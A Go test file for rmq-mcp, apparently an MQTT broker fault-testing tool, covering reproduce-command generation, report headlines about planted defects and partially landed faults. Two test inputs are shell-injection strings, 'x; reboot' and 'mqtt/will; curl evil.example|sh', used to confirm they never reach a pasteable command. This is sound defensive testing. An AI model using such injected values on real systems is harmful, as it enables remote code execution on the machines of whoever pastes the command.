package reports

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/robustmq/rmq-mcp/history"
	"github.com/robustmq/rmq-mcp/internal/testing/runtest"
)

// The command that repeats a run on a stranger's broker names its address, and nothing
// that a shell would take for more.
func TestReproduceExternal(t *testing.T) {
	run := &history.Run{Scenario: "mqtt/will", SDK: "go/rmq-mcp@1", Protocol: "mqtt3", Seed: 7, Tier: "smoke", Cluster: history.ClusterInfo{
		Flavor: "external", Nodes: 2, Config: map[string]any{"endpoints": []any{"[::1]:1883", "x; reboot"}},
	}}
	want := "rmq-mcp run mqtt/will --endpoint [::1]:1883 --sdk go/rmq-mcp@1 --protocol mqtt3 --seed 7 --tier smoke"
	if got := reproduce(run, asked{}); got.Command != want || len(got.NotChosen) > 0 {
		t.Errorf("%+v, want %s", got, want)
	}
}

// The command that repeats a run has all that made it. Paths of this machine are left out,
// and so is anything that a shell would take for more: both are said beside the command.
func TestReproduce(t *testing.T) {
	run := &history.Run{Scenario: "mqtt/will", SDK: "go/rmq-mcp@1", Protocol: "mqtt3", Wire: true, Seed: 7, Tier: "smoke", Cluster: history.ClusterInfo{
		Flavor: "robustmq", Nodes: 3, Profile: "tested", Runtime: "process", BinarySHA: "45e8", Planted: "wrong-ack",
	}}
	const begin, end = "rmq-mcp run mqtt/will --flavor robustmq", " --seed 7 --tier smoke"
	for _, test := range []struct {
		start, want string
		not         []string
	}{
		{``, " --nodes 3 --sdk go/rmq-mcp@1 --protocol mqtt3 --arm tap --plant wrong-ack", []string{"the broker's binary, which had the sha256 45e8"}},
		{`{"cluster": {"version": "v0.4.11", "version_sha256": "ab", "settings": {"queue": 1000000, "mode": "fast", "names": "a b", "list": ["x"]}, "arm": ["disk", "clock"], "disk_model": "xfs"}}`,
			" --broker-version v0.4.11 --broker-sha256 ab --nodes 3 --sdk go/rmq-mcp@1 --protocol mqtt3 --set mode=fast --set queue=1000000 --arm disk --arm clock --disk-model xfs",
			[]string{`--set, whose value is not one word: list=["x"]`, "--set, whose value is not one word: names=a b"}},
		{`{"cluster": {"binary": "/home/me/broker-server", "ca": "/home/me/ca.pem", "username": "me", "pids": [7]}, "off_nodes": true}`, " --nodes 3 --sdk go/rmq-mcp@1 --protocol mqtt3", []string{
			"the broker's binary, which had the sha256 45e8", "the certificate that the clients trusted (--ca)", "the login of the clients (--username, and its password in RMQ_PASSWORD)",
			"the processes, containers or pods of the brokers, for the faults on them (--pid, --container, --pod)", "to leave out faults on nodes, as the run did",
		}},
		{`{"cluster": {"image": "robustmq:mine"}}`, " --image robustmq:mine --nodes 3 --sdk go/rmq-mcp@1 --protocol mqtt3", nil},
	} {
		dir := Dir(t.TempDir())
		must(t, os.Mkdir(dir.Evidence(), 0o755))
		if test.start != "" {
			must(t, os.WriteFile(dir.File(EvidenceDir, StartFile), []byte(test.start), 0o644))
		}
		got, err := dir.Reproduce(run)
		must(t, err)
		if diff := cmp.Diff(Repetition{begin + test.want + end, test.not}, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", test.start, diff)
		}
	}
}

// A broker with a planted defect is not called by the vendor's name alone, in a report's
// first lines and in its picture.
func TestPlantedIsNamed(t *testing.T) {
	dir := runtest.Run{Lossy: true}.Record(t, t.TempDir())
	evidence := filepath.Join(dir, EvidenceDir)
	run, err := history.ReadRun(evidence)
	must(t, err)
	run.Cluster.Planted = "drop-stored/20"
	must(t, history.WriteRun(evidence, run))
	s, err := Finish(dir, runtest.Key)
	must(t, err)
	if !strings.HasSuffix(s.Headline, "; rmq-mcp planted the defect drop-stored/20") {
		t.Errorf("headline %q", s.Headline)
	}
	text := read(t, filepath.Join(dir, MarkdownFile))
	for _, want := range []string{": mqtt/broker-kill-9 on mosquitto 2.0.21 with drop-stored/20 planted\n", "| Broker | mosquitto 2.0.21 with drop-stored/20 planted, 1 node,", " --plant drop-stored/20 "} {
		if !strings.Contains(text, want) {
			t.Errorf("report.md does not say %q", want)
		}
	}
	if picture := read(t, filepath.Join(dir, TimelineFile)); !strings.Contains(picture, "mosquitto 2.0.21 with drop-stored/20 planted: FAIL-once") {
		t.Error("the picture does not name the planted defect")
	}
}

// A planned fault that somebody healed early landed in part, for the page, the picture and
// whoever asks for the landings as for the verdict.
func TestHealedEarlyIsInPart(t *testing.T) {
	dir := runtest.Run{}.Record(t, t.TempDir())
	list, err := history.ReadLandings(filepath.Join(dir, EvidenceDir))
	must(t, err)
	list[0].Times.AskedNS = list[0].Times.AppliedNS + 3e8
	must(t, history.WriteLandings(filepath.Join(dir, EvidenceDir), list))
	if list, err := Dir(dir).Landings(); err != nil || list[0].State != history.Landed {
		t.Errorf("before it is sealed: %+v, %v", list, err)
	}
	s, err := Finish(dir, runtest.Key)
	must(t, err)
	const early = "it was healed on request after 0.3 s of 1.0 s"
	if !strings.Contains(s.Headline, "landed in part: "+early) {
		t.Errorf("headline %q", s.Headline)
	}
	asked, err := Dir(dir).Landings()
	must(t, err)
	r, err := Dir(dir).Report()
	must(t, err)
	for _, l := range []history.Landing{asked[0], r.Landings[0]} {
		if l.State != history.Partial || len(l.Reasons) != 1 || l.Reasons[0] != early {
			t.Errorf("%s: %v", l.State, l.Reasons)
		}
	}
	text := read(t, filepath.Join(dir, MarkdownFile))
	if !strings.Contains(text, "### f1: kill of node-1 (asked: leader): partial, heal verified\n") || strings.Count(text, early) < 2 {
		t.Error("report.md calls it landed, or does not say why it is not")
	}
}

// The name of a stranger's scenario is no part of a command that people paste.
func TestReproduceNamesNoProgram(t *testing.T) {
	again := reproduce(&history.Run{Scenario: "mqtt/will; curl evil.example|sh"}, asked{})
	if again.Command != "" || len(again.NotChosen) != 1 {
		t.Errorf("%+v", again)
	}
}
